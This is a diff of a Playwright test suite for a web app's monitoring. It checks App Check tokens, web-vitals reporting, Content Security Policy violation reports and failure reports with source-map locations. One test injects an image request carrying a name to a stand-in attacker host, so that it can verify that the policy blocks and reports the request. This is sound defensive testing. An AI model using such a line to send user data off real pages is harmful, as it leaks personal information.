@@ -16,6 +16,7 @@ const COLLECTOR = 'https://collector.example/in';
 const FOLDER = 'test-results/real-project';
 const PROJECT = 'demo-lively';
 const HEADER = 'x-firebase-appcheck';
+/** The identifier of a build. */
 const BUILD = expect.stringMatching(/^[0-9a-f]{8}$/);
 const TOKEN = 'a-token-of-app-check';
 
@@ -25,6 +26,7 @@ const RECAPTCHA = `window.grecaptcha = { enterprise: {
   execute: async () => 'a person',
 } };`;
 
+/** The responses of Google by a part of the URL. */
 const GOOGLE: Readonly<Record<string, () => object>> = {
   'accounts:signInWithPassword': () => ({
     localId: 'jane',
@@ -43,13 +45,13 @@ const GOOGLE: Readonly<Record<string, () => object>> = {
   completeSignUp: () => ({ result: { uid: 'jane', username: 'jane' } }),
   ':exchangeRecaptchaEnterpriseToken': () => ({ token: TOKEN, ttl: '3600s' }),
 };
-/** All calls except the exchange, which creates the token. */
+/** The calls whose token is checked, one of each service. */
 const WITH_TOKEN = ['accounts:signInWithPassword', 'documents:batchGet', 'completeSignUp'];
 
 const test = base.extend<{ reports: unknown[] }>({
   baseURL: SITE,
   expectedConsole: /ERR_FAILED|status of 400/,
-  /** Serves the site and the collector. What the collector gets so far. */
+  /** What the collector has received so far. The fixture serves the collector and the site. */
   reports: [
     async ({ page }, use) => {
       const reports: unknown[] = [];
@@ -92,8 +94,8 @@ for (const [state, token, recaptcha] of [
   ['is blocked', undefined, (route: Route) => route.abort()],
   ['never becomes ready', undefined, (route: Route) => route.fulfill({ body: NEVER_READY })],
 ] as const) {
-  const which = token ? 'its token' : 'no token';
-  test(`sends every call with ${which} when App Check ${state}`, async ({ page }) => {
+  const expected = token ? 'its token' : 'no token';
+  test(`sends every call with ${expected} when App Check ${state}`, async ({ page }) => {
     const sent = await signUpWith(page, recaptcha);
     expect(WITH_TOKEN.map((call) => sent.get(call))).toEqual(WITH_TOKEN.map(() => token));
   });
@@ -102,52 +104,89 @@ for (const [state, token, recaptcha] of [
 test.describe('a public page', () => {
   test.use({ expectedConsole: /Content Security Policy/ });
 
-  test('reports web vitals and violations of its policy', async ({ page, reports }) => {
+  const report = { page: paths.premium, build: BUILD };
+
+  /** Opens the page, and waits for its reporter, which the site imports after the load event. */
+  const openPremium = (page: Page) => page.goto(paths.premium, { waitUntil: 'networkidle' });
+
+  test('loads no code of the account area', async ({ page }) => {
     const requested: string[] = [];
     page.on('request', (request) => requested.push(new URL(request.url()).pathname));
-    await page.goto(paths.premium, { waitUntil: 'networkidle' });
+    await openPremium(page);
     expect(requested.filter((path) => /account|auth|firebase|react/i.test(path))).toEqual([]);
-    const common = { page: paths.premium, build: BUILD };
+  });
+
+  test('reports web vitals', async ({ page, reports }) => {
+    await openPremium(page);
     // The first interaction finalizes LCP.
     await page.keyboard.press('Shift');
-    const value = expect.any(Number);
-    const vital = { kind: 'vital', what: 'LCP', value, ...common };
+    const vital = { ...report, kind: 'vital', what: 'LCP', value: expect.any(Number) };
     await expect.poll(() => reports).toContainEqual(vital);
+  });
+
+  test('reports violations of its policy without their URL', async ({ page, reports }) => {
+    await openPremium(page);
     await page.evaluate(() => {
       new Image().src = 'https://evil.example/?name=jane';
     });
-    // Without the URL.
-    const violation = { kind: 'violation', what: 'img-src', code: 'other', ...common };
+    const violation = { ...report, kind: 'violation', what: 'img-src', code: 'other' };
     await expect.poll(() => reports).toContainEqual(violation);
   });
 });
 
-test('reports a failure with its place in the source', async ({ page, reports }) => {
-  // A code of Firebase that no form expects.
-  await page.route(/googleapis\.com|google\.com/, (route) =>
-    route.fulfill({
-      status: 400,
-      json: { error: { message: 'OPERATION_NOT_ALLOWED' } },
-      headers: corsFor(route.request()),
-    }),
-  );
-  await page.goto(paths.logIn);
-  await submit(page, copy.logIn, { email: 'jane@example.com', password: 'sailing1' });
-  const at = expect.stringMatching(/^\/assets\/[\w-]+\.js:\d+:\d+$/);
-  const expected = { kind: 'failure', what: 'log in', page: paths.logIn, build: BUILD, at };
-  await expect.poll(() => reports).toContainEqual(expect.objectContaining(expected));
-  expect(JSON.stringify(reports)).not.toContain('jane');
-
-  const placeSchema = z.object({ what: z.literal('log in'), build: z.string(), at: z.string() });
-  const report = reports.map((one) => placeSchema.safeParse(one).data).find((one) => one);
-  const [path = '', line, column] = report?.at.split(':') ?? [];
-  const map = join('test-results/source-maps', report?.build ?? '', `${basename(path)}.map`);
-  const source = new SourceMap(JSON.parse(readFileSync(map, 'utf8')));
-  expect(source.findOrigin(Number(line), Number(column))).toMatchObject({
-    fileName: expect.stringMatching(/\/(src|node_modules)\/\S+\.[jt]sx?$/),
+test.describe('the report of a failure', () => {
+  const failureSchema = z.looseObject({
+    what: z.literal('log in'),
+    build: z.string(),
+    at: z.string(),
   });
-  // The maps contain the source, so they are not deployed.
-  expect(readdirSync(join(FOLDER, 'assets')).filter((name) => name.endsWith('.map'))).toEqual([]);
+
+  /** Fails a log-in, and waits for the report. */
+  async function failLogIn(page: Page, reports: readonly unknown[]) {
+    await page.route(/googleapis\.com|google\.com/, (route) =>
+      route.fulfill({
+        status: 400,
+        // A code of Firebase that no form expects.
+        json: { error: { message: 'OPERATION_NOT_ALLOWED' } },
+        headers: corsFor(route.request()),
+      }),
+    );
+    await page.goto(paths.logIn);
+    await submit(page, copy.logIn, { email: 'jane@example.com', password: 'sailing1' });
+    const failures = () => reports.filter((report) => failureSchema.safeParse(report).success);
+    await expect.poll(failures).toHaveLength(1);
+    return failureSchema.parse(failures()[0]);
+  }
+
+  test('names the page, the build and the place in the code', async ({ page, reports }) => {
+    expect(await failLogIn(page, reports)).toMatchObject({
+      kind: 'failure',
+      page: paths.logIn,
+      build: BUILD,
+      at: expect.stringMatching(/^\/assets\/[\w-]+\.js:\d+:\d+$/),
+    });
+  });
+
+  test('never has the email', async ({ page, reports }) => {
+    await failLogIn(page, reports);
+    expect(JSON.stringify(reports)).not.toContain('jane');
+  });
+
+  test('leads to the source by a source map of its build', async ({ page, reports }) => {
+    const { build, at } = await failLogIn(page, reports);
+    const [script = '', line, column] = at.split(':');
+    const map = join('test-results/source-maps', build, `${basename(script)}.map`);
+    const sourceMap = new SourceMap(JSON.parse(readFileSync(map, 'utf8')));
+    expect(sourceMap.findOrigin(Number(line), Number(column))).toMatchObject({
+      fileName: expect.stringMatching(/\/(src|node_modules)\/\S+\.[jt]sx?$/),
+    });
+  });
+});
+
+// They contain the source.
+test('source maps are not deployed', () => {
+  const names = readdirSync(join(FOLDER, 'assets'));
+  expect(names.filter((name) => name.endsWith('.map'))).toEqual([]);
 });
 
 /**
@@ -159,7 +198,8 @@ async function signUpWith(page: Page, recaptcha: (route: Route) => Promise<void>
   const sent = new Map<string, string | undefined>();
   await page.route(/googleapis\.com|cloudfunctions\.net/, async (route) => {
     const request = route.request();
-    const call = Object.keys(GOOGLE).find((name) => request.url().includes(name)) ?? '';
+    const call = Object.keys(GOOGLE).find((name) => request.url().includes(name));
+    if (call === undefined) throw new Error(`There is no response for ${request.url()}.`);
     if (request.method() !== 'OPTIONS') sent.set(call, request.headers()[HEADER]);
     await route.fulfill({ json: GOOGLE[call]?.(), headers: corsFor(request) });
   });
